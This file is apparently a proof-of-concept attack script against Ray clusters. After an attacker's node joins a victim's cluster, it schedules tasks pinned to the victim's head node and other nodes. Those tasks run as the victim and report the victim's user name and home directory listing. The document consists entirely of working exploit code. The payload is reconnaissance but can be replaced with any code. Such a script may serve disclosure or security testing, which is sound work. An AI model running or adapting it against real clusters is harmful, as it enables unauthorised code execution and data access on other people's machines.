"""Run as the attacker after joining the victim's cluster with a node of their own
(ray start --address=VICTIM_HEAD): a task pinned to the victim's head node runs as the victim."""

import os
import sys

import ray
from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

ray.init(address=sys.argv[1], log_to_driver=False, logging_level="ERROR")
head = [n for n in ray.nodes() if n["Alive"] and n["NodeManagerAddress"] == sys.argv[1].rsplit(":", 1)[0]]


@ray.remote(num_cpus=0)
def whoami():
    import os
    import pwd

    return pwd.getpwuid(os.getuid()).pw_name, sorted(os.listdir(os.path.expanduser("~")))


for node in ray.nodes():
    if node["Alive"]:
        strategy = NodeAffinitySchedulingStrategy(node_id=node["NodeID"], soft=False)
        print(
            node["NodeManagerAddress"], "->", ray.get(whoami.options(scheduling_strategy=strategy).remote(), timeout=60)
        )
print("attacker uid", os.getuid())
